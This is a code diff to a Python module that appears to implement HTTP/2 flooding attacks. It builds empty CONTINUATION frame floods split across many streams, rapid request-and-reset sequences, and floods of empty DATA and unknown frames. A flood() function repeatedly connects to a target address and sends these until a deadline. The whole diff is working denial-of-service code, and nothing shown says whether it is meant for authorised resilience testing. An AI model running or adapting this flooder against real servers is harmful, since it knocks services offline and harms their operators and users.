@@ -45,24 +45,31 @@ KINDS: dict[str, bytes] = {
     "empty DATA": frames.frame(frames.DATA, 0, 1),
     "unknown frames": frames.frame(0xBE, 0, 0),
     "RST_STREAM": frames.reset(1),
-    "empty CONTINUATION": _headers(3, 0) + frames.frame(frames.CONTINUATION, 0, 3) * 60,
+    "empty CONTINUATION": b"",
     "requests and resets": b"",
 }
 
 
-def _rounds(kind: str) -> list[bytes]:
-    """Returns what is sent on one connection, before it repeats."""
+def _repeated(kind: str) -> bytes:
+    """Returns what is sent again and again on one connection."""
+    streams = range(3, 6001, 2)
     if kind == "requests and resets":
-        pairs = (_headers(stream) + frames.reset(stream) for stream in range(3, 60_001, 2))
-        return [b"".join(pairs)]
-    return [KINDS[kind] * (_BYTES_AT_ONCE // len(KINDS[kind]))]
+        return b"".join(_headers(stream) + frames.reset(stream) for stream in streams)
+    if kind == "empty CONTINUATION":
+        return b"".join(_split_headers(stream) for stream in streams[:200])
+    return KINDS[kind] * (_BYTES_AT_ONCE // len(KINDS[kind]))
+
+
+def _split_headers(stream: int) -> bytes:
+    empty = frames.frame(frames.CONTINUATION, 0, stream) * 60
+    return _headers(stream, 0) + empty + frames.frame(frames.CONTINUATION, 4, stream)
 
 
 def flood(address: str, kind: str, end: float, *, in_call: bool) -> int:
     """Sends until `end`; returns the number of connections."""
     host, _, port = address.rpartition(":")
     connections = 0
-    rounds = _rounds(kind)
+    data = _repeated(kind)
     while time.monotonic() < end:
         connections += 1
         with socket.create_connection((host, int(port)), 10) as peer:
@@ -73,8 +80,7 @@ def flood(address: str, kind: str, end: float, *, in_call: bool) -> int:
                 if in_call:
                     peer.recv(1 << 16)
                 while time.monotonic() < end:
-                    for data in rounds:
-                        _send(peer, data, end)
+                    _send(peer, data, end)
             except OSError:
                 time.sleep(_RECONNECT_PAUSE_SECONDS)
     return connections
